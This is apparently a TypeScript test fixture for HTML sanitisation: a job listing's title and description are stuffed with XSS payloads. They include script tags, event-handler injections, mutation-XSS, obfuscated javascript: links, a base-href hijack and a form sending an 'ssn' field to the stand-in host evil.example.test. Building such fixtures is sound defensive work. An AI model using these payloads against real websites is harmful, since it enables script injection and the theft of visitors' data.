/** XSS payloads; shown literally if escaped. */
export const hostileTitle = `Packer </title></script><script>window.hostile='title'</script> & "Nights" <2nd shift>`

/** XSS payloads: each runs a script, requests a foreign host or breaks out of its container. */
export const hostileDescription = `<p>Pack boxes, and mind what is in them.</p>
<script>window.hostile='script'</script>
<script src="https://evil.example.test/hostile.js"></script>
<img src="https://evil.example.test/pixel.gif" onerror="window.hostile='img'">
<img src=x onerror=window.hostile='unquoted'>
<svg onload="window.hostile='svg'"><script>window.hostile='svg script'</script></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hostile='mutation'&gt;"></mglyph></table></mtext></math>
<iframe src="https://evil.example.test/frame.html" srcdoc="<script>parent.hostile='frame'</script>"></iframe>
<object data="https://evil.example.test/object"></object><embed src="https://evil.example.test/embed">
<a href="javascript:window.hostile='link'">Apply here</a>
<a href="JaVa&#x0a;ScRiPt:window.hostile='spelt'">or here</a>
<a href="data:text/html,<script>window.hostile='data'</script>">or there</a>
<a href="//evil.example.test/relative">or elsewhere</a>
<form action="https://evil.example.test/steal"><input name="ssn" autofocus onfocus="window.hostile='focus'"><button>Continue</button></form>
<style>@import url(https://evil.example.test/hostile.css); body{background:url(https://evil.example.test/background.png)}</style>
<link rel="stylesheet" href="https://evil.example.test/hostile.css"><base href="https://evil.example.test/">
<meta http-equiv="refresh" content="0;url=https://evil.example.test/">
<p style="position:fixed;inset:0;background:url(https://evil.example.test/inline.png)" onmouseover="window.hostile='over'">Cover</p>
<video src="https://evil.example.test/video" poster="https://evil.example.test/poster" onloadstart="window.hostile='video'"></video>
<details open ontoggle="window.hostile='toggle'"><summary>More</summary></details>
<template><script>window.hostile='template'</script></template>
<noscript><p title="</noscript><img src=x onerror=window.hostile='noscript'>"></noscript>
</script><script>window.hostile='closed'</script><!-- --><plaintext>
<p>Wear gloves.</p>`
